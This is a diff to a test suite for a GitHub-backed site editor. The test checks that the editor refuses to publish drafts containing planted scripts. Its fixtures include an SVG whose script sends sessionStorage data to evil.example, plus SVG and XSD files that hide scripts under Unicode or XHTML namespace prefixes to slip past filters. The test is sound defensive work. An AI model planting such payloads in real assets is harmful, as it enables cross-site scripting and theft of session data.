@@ -356,7 +356,7 @@ describe('the editor from the browser, on GitHub', () => {
     expect(git(shared().remote, 'rev-parse', DRAFTS)).toBe(drafts);
   });
 
-  it('refuses to publish a drawing with a script planted on the drafts, in the checker’s words, writing nothing', async () => {
+  it('refuses to publish a drawing with a script planted on the drafts, under any prefix, or an XML file, in the checker’s words, writing nothing', async () => {
     const { teammate } = shared();
     git(teammate, 'fetch', '--quiet');
     git(teammate, 'checkout', '--quiet', '-B', 'planted', `origin/${DRAFTS}`);
@@ -364,20 +364,46 @@ describe('the editor from the browser, on GitHub', () => {
       join(teammate, 'public/media/badge.svg'),
       '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?t=" + sessionStorage.key(0))</script></svg>\n',
     );
+    // The same script under a prefix of a Unicode name, and a page's script in an XML file Chromium runs.
+    writeFileSync(
+      join(teammate, 'public/media/sneaky.svg'),
+      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:é="http://www.w3.org/2000/svg"><é:script>alert(1)</é:script></svg>\n',
+    );
+    writeFileSync(
+      join(teammate, 'public/schema.xsd'),
+      '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>\n',
+    );
     editJsonFile(teammate, HOME, (home) => (home.sections[0].video.poster = '/media/badge.svg'));
+    editJsonFile(teammate, 'config/collections/services.json', (services) => {
+      services.services[0].picture = '/media/sneaky.svg';
+    });
     git(teammate, 'add', '-A');
     git(teammate, '-c', 'user.name=Mallory', '-c', 'user.email=m@example.org', 'commit', '--quiet', '-m', 'A badge');
     git(teammate, 'push', '--quiet', 'origin', `planted:${DRAFTS}`);
 
     const editor = await backend();
     const main = git(shared().remote, 'rev-parse', 'main');
-    expect((await editor.checkChanges([])).problems).toContainEqual(
-      expect.objectContaining({ file: 'public/media/badge.svg', severity: 'error' }),
+    const { problems } = await editor.checkChanges([]);
+    expect(problems).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ file: 'public/media/badge.svg', severity: 'error' }),
+        expect.objectContaining({
+          file: 'public/media/sneaky.svg',
+          message: expect.stringMatching(/^This file is an SVG drawing that holds <é:script>, which would run/),
+          severity: 'error',
+        }),
+        expect.objectContaining({
+          file: 'public/schema.xsd',
+          message: expect.stringMatching(/^This file is not a kind of file public\/ serves \(files ending in \.xsd/),
+          severity: 'error',
+        }),
+      ]),
     );
     const answer = await editor.publish({ leaveOut: [], removeMedia: [], message: 'A badge' });
-    expect(
-      !isRefusal(answer) && answer.status === 'invalid' && answer.problems.map((problem) => problem.file),
-    ).toContain('public/media/badge.svg');
+    expect(!isRefusal(answer) && answer.status === 'invalid' && answer.problems.map((problem) => problem.file)).toEqual(
+      expect.arrayContaining(['public/media/badge.svg', 'public/media/sneaky.svg']),
+    );
+    // Publish carries content only (config/ and public/media/): the XML file, refused by the check, never goes to main.
     expect(git(shared().remote, 'rev-parse', 'main')).toBe(main);
   });
 });
